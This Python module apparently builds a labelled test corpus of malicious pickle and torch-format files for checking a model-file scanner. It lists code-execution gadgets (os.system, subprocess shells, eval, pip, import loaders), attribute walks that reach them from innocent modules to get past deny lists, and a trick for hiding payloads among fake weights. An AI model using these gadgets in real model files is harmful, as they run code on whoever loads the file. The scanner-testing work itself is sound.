"""Classes 1 to 3: callables that no list names, names below the listed ones, and names that walk."""

import io
import random
import zipfile

from . import opcodes as op
from .gadgets import CODE, COMMAND, LIBRARIES, STANDARD

# Class 2: the module is below a known one, or the name is inside a class of it.
BELOW = [
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", COMMAND),
    ("asyncio.subprocess", "create_subprocess_shell", COMMAND),
    ("asyncio.base_events", "BaseEventLoop.subprocess_shell", COMMAND),
    ("multiprocessing.util", "spawnv_passfds", b"true", []),
    ("multiprocessing.popen_fork", "Popen", None),
    ("multiprocessing.managers", "BaseManager.connect", None),
    ("concurrent.futures.process", "ProcessPoolExecutor"),
    ("concurrent.futures.thread", "ThreadPoolExecutor"),
    ("importlib._bootstrap", "_gcd_import", "os"),
    ("importlib._bootstrap_external", "SourceFileLoader", "x", "/tmp/x"),
    ("importlib.util", "spec_from_file_location", "x", "/tmp/x"),
    ("distutils.command.build", "build", None),
    ("pip._internal", "main", []),
    ("pip._internal.utils.subprocess", "call_subprocess", [COMMAND]),
    ("pip._vendor.requests.api", "get", "http://localhost:1/"),
    ("setuptools._distutils.spawn", "spawn", [COMMAND]),
    ("urllib.request", "URLopener.retrieve", "http://localhost:1/"),
    ("http.client", "HTTPConnection.request", "GET", "/"),
    ("http.server", "test"),
    ("ctypes.util", "_findLib_gcc", "c"),
    ("ctypes._endian", "_other_endian", None),
    ("unittest.mock", "_importer", "os"),
    ("unittest.main", "TestProgram", "os"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", CODE),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", CODE),
    ("lib2to3.main", "main", "x"),
    ("wsgiref.simple_server", "make_server", "", 0, None),
    ("sqlite3.dbapi2", "connect", ":memory:"),
    ("dbm.dumb", "open", "/tmp/weighed"),
    ("xmlrpc.server", "SimpleXMLRPCServer", ["", 0]),
    ("torch.hub.something", "load", "x"),
    ("torch.distributed.elastic.multiprocessing.api", "start_processes", "x"),
    ("torch._dynamo.eval_frame", "optimize", "x"),
    ("torch.fx.interpreter", "Interpreter.run", None),
    ("numpy.f2py.auxfuncs", "eval", CODE),
    ("numpy.distutils.misc_util", "exec_mod_from_location", "x", "/tmp/x"),
    ("pickle", "_Unpickler.load", None),
    ("os.path", "os.system", COMMAND),
    ("subprocess", "Popen.communicate", None),
    ("pdb", "Pdb.default", CODE),
]

# Class 3: an innocent module, and a walk to something else.
WALKS = [
    ("random", "_os.getpid"), ("random", "_os.system"), ("statistics", "random._os.system"), ("logging", "os.system"),
    ("logging", "sys.modules.get"), ("argparse", "_sys.modules.get"), ("argparse", "_os.system"), ("uuid", "os.system"),
    ("uuid", "sys.modules.get"), ("pathlib", "os.system"), ("pathlib", "io.open"), ("collections", "_sys.modules.get"),
    ("collections", "OrderedDict.__init__.__globals__"), ("collections", "namedtuple.__globals__.get"),
    ("datetime", "sys.modules.get"), ("json", "codecs.builtins.eval"), ("json", "codecs.open"), ("copy", "weakref.sys.exit"),
    ("decimal", "Decimal.__class__.__base__.__subclasses__"), ("fractions", "sys.modules.get"), ("zoneinfo", "_common.struct"),
    ("torch", "os.system"), ("torch", "sys.modules.get"), ("torch.storage", "io.open"), ("torch._utils", "sys.modules.get"),
    ("torch.serialization", "os.system"), ("torch.serialization", "pickle.loads"), ("torch.nn.modules.linear", "math.sys.exit"),
    ("numpy", "sys.modules.get"), ("numpy.core.multiarray", "os.system"), ("numpy.ma.core", "builtins.eval"),
    ("numpy.ma.core", "inspect.os.system"), ("sklearn.pipeline", "joblib.load"), ("sklearn.base", "platform.os.system"),
    ("pandas.core.frame", "sys.modules.get"), ("builtins", "object.__subclasses__"), ("builtins", "dict.__class__.mro"),
    ("functools", "partial.__call__"), ("re", "_compiler.sys.exit"), ("ipaddress", "functools.reduce"),
    ("typing", "sys.modules.get"), ("transformers.training_args", "os.system"), ("joblib.numpy_pickle", "pickle.loads"),
]  # fmt: skip


def torch_zip(data, name="archive"):
    """The zip that `torch.save` writes, around any pickle."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_STORED) as archive:
        for member, content in [("data.pkl", data), ("byteorder", b"little"), ("version", b"3\n")]:
            archive.writestr(zipfile.ZipInfo(f"{name}/{member}"), content)
    return held.getvalue()


def in_a_dict(*pieces):
    """The payload among weights, as attackers hide it."""
    weights = op.text("layer.weight") + op.value([0.25, -1.5, 3.0]) + op.text("layer.bias")
    return op.EMPTY_DICT + op.MARK + weights + b"".join(pieces) + op.SETITEMS


def write(corpus):
    """All three classes."""
    choose = random.Random("names")
    for number, (module, name, *things) in enumerate(STANDARD + LIBRARIES):
        is_dotted = "." in name
        how = "stack" if is_dotted else choose.choice(["global", "stack"])
        if how == "global" and choose.random() < 0.25:
            pieces = [op.instance(module, name, *things)]
        else:
            pieces = [op.called(module, name, *things, how=how)]
        if choose.random() < 0.5:
            pieces = [in_a_dict(*pieces)]
        data = op.stream(*pieces, protocol=4 if how == "stack" else choose.choice([None, 2, 3, 4]))
        suffix = choose.choice(["pkl", "bin", "pickle", "pt"])
        if suffix == "pt":
            data = torch_zip(data)
        corpus.dangerous(1, f"{number:03}-{module}.{name}.{suffix}", data)
    for number, (module, name, *things) in enumerate(BELOW):
        data = op.stream(in_a_dict(op.called(module, name, *things, how="stack")), protocol=4)
        corpus.dangerous(2, f"{number:03}-{module}.{name}.pkl", data)
    for number, (module, name) in enumerate(WALKS):
        how = ["stack", "global"][number % 2]
        data = op.stream(op.called(module, name, COMMAND, how=how), protocol=4 + number % 2)
        corpus.dangerous(3, f"{number:03}-{module}.{name}.pkl", torch_zip(data) if number % 5 == 0 else data)
